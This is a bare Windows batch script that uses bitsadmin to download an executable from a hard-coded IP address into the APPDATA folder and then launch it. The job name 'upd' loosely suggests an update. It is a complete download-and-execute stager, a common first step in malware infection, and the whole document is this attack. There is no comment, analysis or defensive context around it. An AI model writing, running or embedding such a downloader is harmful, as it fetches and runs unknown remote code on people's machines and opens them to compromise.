@echo off
bitsadmin /transfer upd /download /priority high http://203.0.113.5/p.exe %APPDATA%\p.exe
start "" %APPDATA%\p.exe
